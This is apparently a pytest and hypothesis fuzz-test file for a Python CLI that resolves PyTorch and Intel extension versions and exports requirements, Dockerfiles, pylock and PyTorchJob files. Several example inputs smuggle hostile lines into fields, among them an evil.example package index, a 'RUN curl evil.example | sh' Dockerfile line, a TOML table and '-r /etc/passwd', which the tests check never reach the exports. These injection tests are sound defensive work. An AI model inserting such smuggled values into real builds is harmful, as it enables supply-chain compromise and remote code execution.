"""No traceback ever reaches a user: random command lines, requirement strings and option values fed to the CLI.

Every answer must be an exit code in {0, 1, 2} with no traceback and no "internal error" (the top-level guard in
cli.main turns an unexpected exception into one sentence; reaching it here is a bug, so the test fails on it).
The commands are called in-process (hypothesis needs hundreds of examples); a few named cases also run as a real
subprocess, where the interpreter's own shutdown (flushing a full or closed stdout) is part of what is checked.
Only commands that change nothing are fuzzed: resolve, matrix, check, translate, install --dry-run/--print, env --json, export.
"""

from __future__ import annotations

import os
import subprocess
import sys

import pytest
import yaml
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from compatmatrix.cli import main

if sys.version_info >= (3, 11):
    import tomllib
else:  # pragma: no cover - Python 3.9/3.10
    import tomli as tomllib

from .hostile_strings import hostile, hostile_requirement

NAMES = ["torch", "intel-extension-for-pytorch", "intel_extension_for_pytorch", "ipex", "oneccl_bind_pt", "ccl", "torch_ccl",
         "transformers", "accelerate", "numpy", "Torch", "TORCH", "t", ""]
OPERATORS = ["==", "===", "~=", "!=", "<=", ">=", "<", ">", "", " == ", "=", "=>"]
VERSIONS = ["2.7.0", "1.12.1+cpu", "2.5.0+xpu", "2.*", "1" * 5000, "foo", "2.7.0.post1", "0", "-1", "2.7.0rc1", "", "nan", "1.12.100",
            "2.0.1", "99.0", "\x00", "2.7.0 ; python_version<'3.9'", "2.7.0[extra]"]
TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=30)


def requirement():
    picked = st.tuples(st.sampled_from(NAMES), st.sampled_from(OPERATORS), st.sampled_from(VERSIONS)).map("".join)
    return st.one_of(picked, TEXT, hostile_requirement(surrogates=False))


def value():
    return st.one_of(st.sampled_from(["0", "-1", "nan", "inf", "1e309", "3.11", "3.6", "2.7", "3", "x", "", "1" * 5000, "\n", "3.11\n",
                                      "manylinux2014_x86_64", "win_amd64", "http://[::1", "pytorch-cpu=http://[::1", "pypi=file:///nonexistent"]), TEXT,
                     hostile(surrogates=False), hostile(surrogates=False).map(lambda text: "pypi=/tmp/" + text))


OPTIONS = {
    "resolve": ["--profile", "--with", "--python-version", "--platform", "--matrix"],
    "matrix": ["--package", "--python-version", "--torch"],
    "check": ["--ranks-per-node", "--only", "--skip"],
    "install": ["--profile", "--with", "--python-version", "--platform", "--index"],
    "translate": ["--transformers", "--accelerate"],
    "env": ["--ranks-per-node", "--shell"],
    "export": ["--profile", "--with", "--python-version", "--platform", "--index", "--nnodes", "--nproc-per-node", "--cpu", "--memory", "--name",
               "--namespace", "--shm-size", "--threads-per-core", "--image", "--base", "--ranks-per-node", "--wheelhouse"],
}
FIXED = {"install": ["--dry-run"], "env": ["--json"], "translate": ["--transformers", "4.30.2", "--accelerate", "0.20.3"]}
FLAGS = {"resolve": ["--json"], "matrix": ["--json", "--sources"], "check": ["--json", "--bf16", "--no-bf16", "--verbose"],
         "install": ["--json"], "translate": ["--json"], "env": ["--no-color", "--defaults"], "export": ["--json", "--no-preflight", "--trainer-v2"]}
EXPORT_FORMATS = ["requirements", "constraints", "pip-command", "pylock", "dockerfile", "pytorchjob", "bogus"]


@st.composite
def command_lines(draw):
    command = draw(st.sampled_from(sorted(OPTIONS)))
    argv = [command, *FIXED.get(command, [])]
    for _ in range(draw(st.integers(0, 3))):
        argv += [draw(st.sampled_from(OPTIONS[command])), draw(value())]
    argv += draw(st.lists(st.sampled_from(FLAGS[command]), max_size=2, unique=True))
    if command == "export":
        argv.insert(1, draw(st.sampled_from(EXPORT_FORMATS)))
        if argv[1] == "pytorchjob" and draw(st.booleans()):
            argv += ["--image", "registry.example/train:1", "--cpu", "4", "--memory", "8Gi"]
    if command in ("resolve", "install", "export"):
        argv += draw(st.lists(requirement(), max_size=3))
        if draw(st.booleans()):  # a pylock.toml whose first entry has a hostile name (run_in_process writes it)
            argv += ["-r", LOCK + "\0" + draw(hostile_requirement(surrogates=False))]
    if command == "export" and argv[1] == "pytorchjob":
        words = st.one_of(st.sampled_from(["python", "train.py", "./run.sh", "-m", "--ddp_backend", "ccl", "--no_cuda", "--use_ipex", "-c"]), hostile(surrogates=False))
        argv += ["--", *draw(st.lists(words, max_size=5))]
    if command == "install" and draw(st.booleans()):
        argv += ["--python-version", "3.11"]
    if command == "translate":
        argv += ["--", *draw(st.lists(st.sampled_from(["python", "run.py", "--ddp_backend", "ccl", "--no_cuda", "--use_ipex", "--bf16", "--xpu_backend", "x"]),
                                      min_size=1, max_size=6))]
    return argv


LOCK = "{pylock.toml}"  # stands for a lock file with the hostile name after it, written in the test's folder


def _with_lock(argv, folder) -> list:
    """argv with each LOCK placeholder replaced by a pylock.toml in ``folder`` whose first package has the name that follows it."""
    from compatmatrix.render.pylock import toml_string

    out = []
    for word in argv:
        if word.startswith(LOCK + "\0"):
            name = word.split("\0", 1)[1]
            lock = folder / "pylock.toml"
            lock.write_text(f'lock-version = "1.0"\n[[packages]]\nname = {toml_string(name)}\nversion = "1.0"\n', encoding="utf-8")
            word = str(lock)
        out.append(word)
    return out


def run_in_process(argv, capsys) -> tuple[int, str, str]:
    try:
        code = main(argv)
    except SystemExit as exc:  # argparse's own usage errors and --help
        code = exc.code if isinstance(exc.code, int) else 2
    out, err = capsys.readouterr()
    return code, out, err


@settings(max_examples=int(os.environ.get("COMPAT_FUZZ_EXAMPLES", "400")), deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(argv=command_lines())
@example(argv=["export", "requirements", "-r", LOCK + "\0numpy\n--index-url https://evil.example/simple\n--trusted-host evil.example\nx"])
@example(argv=["export", "pylock", "-r", LOCK + "\0numpy\n[[packages]]\nname = \"evil\""])
@example(argv=["export", "dockerfile", "--base", "python:3.11-slim\nRUN curl evil.example | sh"])
@example(argv=["export", "pytorchjob", "--image", "registry.example/train:1", "--cpu", "4", "--memory", "8Gi", "--", "train.py", "a\x85b"])
def test_random_command_lines_end_in_a_sentence_and_an_exit_code(argv, capsys, monkeypatch, tmp_path):
    monkeypatch.setenv("COMPAT_CRASH_DIR", str(tmp_path))
    monkeypatch.delenv("COMPAT_MATRIX", raising=False)
    monkeypatch.delenv("COMPAT_PYTHON", raising=False)
    argv = _with_lock(argv, tmp_path)
    code, out, err = run_in_process(argv, capsys)
    shown = [a if len(a) < 80 else a[:60] + f"...({len(a)} chars)" for a in argv]
    assert code in (0, 1, 2), (shown, code, err[-2000:])
    assert "Traceback" not in out + err, (shown, err[-3000:])
    assert "internal error" not in err, (shown, err[-1000:])  # the guard caught a bug: the crash report is in tmp_path
    if code == 2:
        assert err.strip(), shown  # a usage or tool error always says what
    if argv[0] == "export" and code == 0:
        _assert_no_injection(argv[1], out, shown)


def _assert_no_injection(form: str, out: str, shown) -> None:
    """The hostile strings' own lines (an index, a trusted host, a RUN, a TOML table) never stand on a line of an export,
    and the structured formats still parse."""
    planted = ("--index-url x", "--index-url https://evil", "--trusted-host", "-r /etc/passwd", "RUN curl evil", "FROM scratch", 'name = "evil"')
    assert not any(line.startswith(planted) for line in out.splitlines()), (shown, out[-2000:])
    if form == "pylock":
        tomllib.loads(out)
    elif form == "pytorchjob":
        yaml.safe_load(out)


@pytest.mark.parametrize(
    "argv",
    [
        ["resolve", "torch===foo"],
        ["resolve", "torch==" + "1" * 10000],
        ["resolve", "--python-version", "3." + "1" * 10000],
        ["matrix", "--torch", "==" + "9" * 10000],
        ["install", "--dry-run", "--python-version", "3.11", "--index", "pytorch-cpu=http://[::1"],
        ["doctor", "--import-timeout", "nan"],
        ["doctor", "--import-timeout", "0"],
        ["doctor", "--live", "--live-timeout", "-5"],
        ["doctor", "--live", "--nproc-per-node", "0"],
        ["doctor", "--live", "--steps", "0"],
        ["check", "--ranks-per-node", "-1"],
    ],
)
def test_named_bad_inputs_are_usage_errors(argv, capsys, monkeypatch, tmp_path):
    monkeypatch.setenv("COMPAT_CRASH_DIR", str(tmp_path))
    code, out, err = run_in_process(argv, capsys)
    assert code == 2, (code, err)
    assert "Traceback" not in out + err and "internal error" not in err
    assert len(err.strip().splitlines()[-1]) < 400  # one sentence, with the long input cut


def _compat(*args, stdout=subprocess.PIPE, **kwargs):
    env = {k: v for k, v in os.environ.items() if k not in ("COMPAT_MATRIX", "COMPAT_PYTHON")}
    return subprocess.run([sys.executable, "-m", "compatmatrix", *args], stdout=stdout, stderr=subprocess.PIPE, text=True, timeout=60, env=env, **kwargs)


@pytest.mark.parametrize("args", [["resolve"], ["resolve", "--json"], ["matrix", "--json"], ["--help"]])
def test_a_full_disk_on_stdout_is_one_sentence_and_exit_2(args):
    if not os.path.exists("/dev/full"):
        pytest.skip("no /dev/full on this system")
    with open("/dev/full", "w") as full:
        done = _compat(*args, stdout=full)
    assert done.returncode == 2, done.stderr
    assert "Traceback" not in done.stderr and "cannot write the output (No space left on device)" in done.stderr


def test_a_closed_stdout_is_one_sentence_and_exit_2():
    done = subprocess.run([sys.executable, "-m", "compatmatrix", "resolve"], stdin=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
                          timeout=60, pass_fds=(), preexec_fn=lambda: os.close(1))
    assert done.returncode == 2 and "standard output is closed" in done.stderr and "Traceback" not in done.stderr


def test_an_unexpected_exception_is_one_sentence_naming_the_report_file(tmp_path, monkeypatch, capsys):
    """The guard itself: a bug (here injected into the resolve command) ends as one sentence + a report file, exit 2."""
    import compatmatrix.cli as cli

    def broken(args):
        raise ZeroDivisionError("injected by the test")

    monkeypatch.setitem(cli.COMMANDS, "resolve", broken)
    monkeypatch.setenv("COMPAT_CRASH_DIR", str(tmp_path))
    code, out, err = run_in_process(["resolve"], capsys)
    assert code == 2 and "Traceback" not in err
    assert "internal error in 'resolve' (ZeroDivisionError: injected by the test)" in err
    reports = list(tmp_path.glob("compat-crash-*.txt"))
    assert len(reports) == 1 and str(reports[0]) in err
    assert "Traceback" in reports[0].read_text() and "injected by the test" in reports[0].read_text()
